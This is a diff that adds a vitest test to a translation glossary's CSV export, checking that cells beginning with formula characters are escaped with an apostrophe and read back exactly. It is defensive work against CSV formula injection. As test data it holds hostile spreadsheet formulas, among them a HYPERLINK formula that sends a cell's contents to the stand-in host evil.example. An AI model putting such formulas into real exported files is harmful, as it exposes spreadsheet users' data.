@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import type { GlossaryTerm } from '../../shared/glossary/types.js';
 import { failure } from '../testing/failure.js';
@@ -41,6 +42,38 @@ describe('glossary CSV', () => {
     expect(parseGlossaryCsv(csv).map((r) => r.input)).toEqual(
       terms.map((t) => ({ source: t.source, target: t.target, note: t.note, forbidden: t.forbidden, caseSensitive: t.caseSensitive })),
     );
+  });
+
+  it('neutralises formula starts (OWASP): = + - @ tab CR get a leading apostrophe, and Verso reads back exactly the text', () => {
+    const hostile = [
+      term('=HYPERLINK("http://evil.example/?x="&A1,"click")', 'x'),
+      term('+1+1', '-2+3', { note: '@SUM(A1:A9)' }),
+      term('ok', 'fine', { note: '\t=1+1', forbidden: ['=cmd'] }),
+      term('cr', 'x', { note: '\r=1+1' }),
+      term("'=already quoted", "'plain apostrophe", { note: "''-twice" }),
+      term('under-score', 'a-b', { note: 'x = y' }),
+    ];
+    const csv = writeGlossaryCsv(hostile);
+    const cells = (parse(csv) as string[][]).slice(1);
+    expect(cells[0]![0]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
+    expect(cells[1]!.slice(0, 3)).toEqual(["'+1+1", "'-2+3", "'@SUM(A1:A9)"]);
+    expect(cells[2]!.slice(2, 4)).toEqual(["'\t=1+1", "'=cmd"]);
+    expect(cells[3]![2]).toBe("'\r=1+1");
+    // An apostrophe the text already had before a formula start gets one more, so reading back is exact.
+    expect(cells[4]!.slice(0, 3)).toEqual(["''=already quoted", "'plain apostrophe", "'''-twice"]);
+    expect(cells[5]!.slice(0, 3)).toEqual(['under-score', 'a-b', 'x = y']);
+    // No cell a spreadsheet would evaluate.
+    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    const back = parseGlossaryCsv(csv).map((r) => [r.input.source, r.input.target, r.input.note, r.input.forbidden]);
+    expect(back).toEqual([
+      ['=HYPERLINK("http://evil.example/?x="&A1,"click")', 'x', '', []],
+      ['+1+1', '-2+3', '@SUM(A1:A9)', []],
+      // Read back exactly; storing trims the note's tab, and the next export guards it again.
+      ['ok', 'fine', '\t=1+1', ['=cmd']],
+      ['cr', 'x', '\r=1+1', []],
+      ["'=already quoted", "'plain apostrophe", "''-twice", []],
+      ['under-score', 'a-b', 'x = y', []],
+    ]);
   });
 
   it('refuses broken CSV, a missing header and bad flags with the line', async () => {
